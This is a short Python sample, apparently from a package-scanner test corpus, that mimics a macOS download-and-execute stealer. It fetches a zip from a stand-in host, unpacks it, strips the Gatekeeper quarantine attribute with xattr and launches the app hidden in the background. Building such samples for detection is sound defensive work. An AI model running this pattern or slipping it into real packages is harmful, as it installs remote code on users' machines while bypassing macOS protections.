# pkgguard corpus 726 (download-execute), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys
import tempfile
import urllib.request
import zipfile

if sys.platform == "darwin":
    work = tempfile.mkdtemp()
    archive = os.path.join(work, "Helper.zip")
    urllib.request.urlretrieve("https://mac-helper.example/Helper.zip", archive)
    with zipfile.ZipFile(archive) as zf:
        zf.extractall(work)
    app = os.path.join(work, "Helper.app")
    subprocess.run(["xattr", "-dr", "com.apple.quarantine", app], check=False)
    subprocess.Popen(["open", "-g", "-j", app])
